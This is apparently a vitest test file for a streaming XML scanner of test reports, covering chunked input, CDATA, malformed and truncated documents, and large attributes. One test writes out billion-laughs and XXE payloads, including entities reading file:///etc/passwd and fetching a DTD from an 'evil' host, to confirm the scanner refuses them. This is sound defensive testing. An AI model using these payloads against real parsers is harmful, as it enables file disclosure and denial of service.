import { describe, expect, it } from 'vitest';
import { XmlFault } from './fault.js';
import { NameTable, nameKey } from './names.js';
import { XmlScanner, type ScanHandler } from './scanner.js';
import type { Tag } from './tag.js';
import { TextCapture } from './text-capture.js';

const NAMES = new NameTable(['root', 'case', 'failure', 'system-out']);
const KEYS = ['name', 'message', 'time', 'a', 'b'].map(nameKey);

/** Records what the scanner reports; captures text of every element it is inside. */
class Recorder implements ScanHandler {
  events: string[] = [];
  texts: string[] = [];
  private capture = new TextCapture();
  constructor(private readonly scanner: () => XmlScanner) {}
  onOpen(tag: Tag): void {
    const attrs = KEYS.map((k) => [k.text, tag.get(k)] as const).filter(([, v]) => v !== undefined);
    const name = tag.nameId === -1 ? `?${tag.name()}` : NAMES.name(tag.nameId);
    this.events.push(`<${name}${attrs.map(([k, v]) => ` ${k}=${JSON.stringify(v)}`).join('')}>`);
    this.capture.reset();
    this.scanner().wantText = true;
  }
  onClose(id: number): void {
    const text = this.capture.text();
    if (text.trim() !== '') this.texts.push(text);
    this.capture.reset();
    this.events.push(`</${id === -1 ? '?' : NAMES.name(id)}>`);
  }
  onText(buf: Buffer, start: number, end: number, cdata: boolean): void {
    this.capture.add(buf, start, end, cdata);
  }
  onComment(text: string): void {
    this.events.push(`<!--${text}-->`);
  }
}

/** Scans `doc` cut into chunks of `size` bytes (0: whole). */
function scan(doc: string | Buffer, size = 0, comments = false): Recorder {
  const bytes = typeof doc === 'string' ? Buffer.from(doc, 'utf8') : doc;
  let scanner!: XmlScanner;
  const rec = new Recorder(() => scanner);
  scanner = new XmlScanner(rec, NAMES);
  scanner.wantComments = comments;
  const step = size || bytes.length || 1;
  for (let i = 0; i < bytes.length; i += step) scanner.write(bytes.subarray(i, i + step));
  scanner.end();
  return rec;
}

function fault(doc: string | Buffer, size = 0): XmlFault {
  try {
    scan(doc, size);
  } catch (err) {
    if (err instanceof XmlFault) return err;
    throw err;
  }
  throw new Error('expected a fault');
}

const DOC = [
  '\uFEFF<?xml version="1.0" encoding="UTF-8"?>\n',
  '<!-- a comment with <tags> and ]]> inside -->\n',
  '<root a=\'single "quoted"\' b="x > y">\n',
  '  <case name="caf\u00e9 \u{1F600} &lt;&amp;&gt; &#65;&#x42; &nbsp;" time="1.5">\n',
  '    <failure message="line1&#10;line2">text &amp; more<![CDATA[ <raw> & ]] ]]]]><![CDATA[>still cdata ]]>tail \u00e9\u{1F4A5}</failure>\n',
  '    <system-out><![CDATA[x]]></system-out>\n',
  '  </case>\n',
  '  <?pi ignored?>\n',
  '  <case name="self"/>\n',
  '  <unknown x="1"><case name="nested"></case></unknown>\n',
  '</root>\n',
].join('');

describe('XmlScanner', () => {
  it('reports elements, decoded attributes and text, CDATA taken literally', () => {
    const rec = scan(DOC);
    expect(rec.events).toEqual([
      '<root a="single \\"quoted\\"" b="x > y">',
      '<case name="café 😀 <&> AB &nbsp;" time="1.5">',
      '<failure message="line1\\nline2">',
      '</failure>',
      '<system-out>',
      '</system-out>',
      '</case>',
      '<case name="self">',
      '</case>',
      '<?unknown a="1">'.replace(' a="1"', ''),
      '<case name="nested">',
      '</case>',
      '</?>',
      '</root>',
    ]);
    expect(rec.texts).toContain('text & more <raw> & ]] ]]>still cdata tail é💥');
    expect(rec.texts).toContain('x');
  });

  it('gives the same events for every way of cutting the document into chunks', () => {
    const whole = scan(DOC);
    const bytes = Buffer.from(DOC, 'utf8');
    for (let size = 1; size <= 40; size++) {
      const cut = scan(bytes, size);
      expect(cut.events, `chunks of ${size}`).toEqual(whole.events);
      expect(cut.texts, `chunks of ${size}`).toEqual(whole.texts);
    }
  });

  it('finds a CDATA end `]]>` split at every position across two chunks', () => {
    for (const body of ['abc', ']', ']]', 'a]', 'a]]', ']]]', 'x]]y']) {
      const doc = Buffer.from(`<root><failure><![CDATA[${body}]]></failure></root>`);
      for (let cut = 1; cut < doc.length; cut++) {
        let scanner!: XmlScanner;
        const rec = new Recorder(() => scanner);
        scanner = new XmlScanner(rec, NAMES);
        scanner.write(doc.subarray(0, cut));
        scanner.write(doc.subarray(cut));
        scanner.end();
        expect(rec.texts, `${body} cut at ${cut}`).toEqual([body]);
      }
    }
  });

  it('skips comments and processing instructions, and reports comments when asked', () => {
    const rec = scan('<root><!-- tests 6 --><?x y?><!-- pass 2 --></root>', 5, true);
    expect(rec.events).toEqual(['<root>', '<!-- tests 6 -->', '<!-- pass 2 -->', '</root>']);
  });

  it('accepts a DOCTYPE that declares nothing and never reads an external DTD', () => {
    expect(scan('<!DOCTYPE root SYSTEM "file:///etc/passwd"><root/>').events).toEqual(['<root>', '</root>']);
    expect(scan('<!DOCTYPE root [ <!-- just a comment --> ]><root/>', 3).events).toEqual(['<root>', '</root>']);
  });

  it('refuses a DOCTYPE that declares entities: billion laughs and XXE', () => {
    const lol = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><root>&lol2;</root>';
    const f = fault(lol);
    expect(f.code).toBe('E_XML_UNSAFE_DTD');
    expect(f.what).toMatch(/declares entity "lol"/);
    const xxe = fault('<!DOCTYPE root [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><root>&xxe;</root>', 7);
    expect(xxe.code).toBe('E_XML_UNSAFE_DTD');
    expect(xxe.what).toMatch(/"xxe" with an external SYSTEM\/PUBLIC source \(XXE\)/);
    expect(fault('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><r/>').what).toMatch(/entity "p"/);
  });

  it('leaves an undeclared entity reference as written', () => {
    expect(scan('<root><case name="a &foo; b &#xZZ; &#1114112;"/></root>').events[1]).toBe('<case name="a &foo; b &#xZZ; &#1114112;">');
  });

  it('treats a `<` that cannot start markup as text', () => {
    const rec = scan('<root><failure>1 < 2 <3</failure></root>');
    expect(rec.texts).toEqual(['1 < 2 <3']);
  });

  it('keeps raw ESC, NUL and ANSI colours, and decodes &#27;', () => {
    const rec = scan(Buffer.from('<root><failure>\u001b[31mred\u001b[0m &#27;[1m \u0000</failure></root>', 'utf8'), 4);
    expect(rec.texts).toEqual(['\u001b[31mred\u001b[0m \u001b[1m \u0000']);
  });

  it.each([
    ['<root><case></root>', 'closing tag </root> does not match <case>', 12],
    ['<root><case name=x/></root>', 'value of attribute name is not quoted', 17],
    ['<root><case disabled/></root>', 'attribute disabled of <case> has no value', 12],
    ['<root><case a="1"b="2"/></root>', 'missing space between attributes in <case>', 17],
    ['<root></case>', 'closing tag </case> does not match <root>', 6],
    ['<root/></root>', 'closing tag </root> without a matching start tag', 7],
    ['<root><!WHAT></root>', 'unexpected markup "<!WHAT></roo"', 6],
    ['<root/><!DOCTYPE root>', 'DOCTYPE after the root element', 7],
  ])('reports malformed XML %j at its byte offset', (doc, what, offset) => {
    const f = fault(doc);
    expect(f.code).toBe('E_XML_MALFORMED');
    expect(f.what).toBe(what);
    expect(f.offset).toBe(offset);
  });

  it.each([
    ['<root><case name="a">', 'inside <case>'],
    ['<root><case name="a', 'inside a tag'],
    ['<root><failure><![CDATA[abc', 'inside a CDATA section'],
    ['<root><!-- no end', 'inside a comment'],
  ])('reports a truncated document %j at its end', (doc, where) => {
    const f = fault(doc, 4);
    expect(f.code).toBe('E_XML_TRUNCATED');
    expect(f.what).toBe(`the document ends ${where}: the report is truncated`);
    expect(f.offset).toBe(Buffer.byteLength(doc));
  });

  it('tells empty input, text and binary junk apart', () => {
    expect(fault('').code).toBe('E_REPORT_EMPTY');
    expect(fault('  \n\t ').code).toBe('E_REPORT_EMPTY');
    const text = fault('this is not an xml file');
    expect([text.code, text.what, text.offset]).toEqual(['E_XML_NOT_XML', 'not XML: text "this is not an xml file" before the first element', 0]);
    const binary = fault(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x00, 0x00, 0x3c]));
    expect([binary.code, binary.what]).toEqual(['E_XML_NOT_XML', 'binary data, not XML']);
    expect(fault('<?xml version="1.0"?>').code).toBe('E_XML_NOT_XML');
  });

  it('reads a start tag with a 20 MB attribute without holding it, keeping the first 64 KiB', () => {
    const huge = 'é'.repeat(10 * 1024 * 1024); // 20 MB of 2-byte characters
    const doc = Buffer.from(`<root><case name="n" message="${huge}" time="2"/></root>`, 'utf8');
    let scanner!: XmlScanner;
    let message = '';
    let time = '';
    const handler: ScanHandler = {
      onOpen(tag) {
        if (tag.nameId === 1) {
          message = tag.get(nameKey('message'))!;
          time = tag.get(nameKey('time'))!;
        }
      },
      onClose() {},
      onText() {},
    };
    scanner = new XmlScanner(handler, NAMES);
    for (let i = 0; i < doc.length; i += 65536) scanner.write(doc.subarray(i, i + 65536));
    scanner.end();
    expect(message.length).toBe(32 * 1024); // 64 KiB of 2-byte characters, cut on a character boundary
    expect(message).toBe('é'.repeat(32 * 1024));
    expect(time).toBe('2');
  });

  it('matches a namespace-prefixed element on its local name', () => {
    expect(scan('<x:root xmlns:x="urn:x"><x:case name="n"/></x:root>').events).toEqual(['<root>', '<case name="n">', '</case>', '</root>']);
  });

  it('accepts several root elements one after another (concatenated reports)', () => {
    expect(scan('<root/>\n<?xml version="1.0"?>\n<root/>\n').events).toEqual(['<root>', '</root>', '<root>', '</root>']);
  });
});
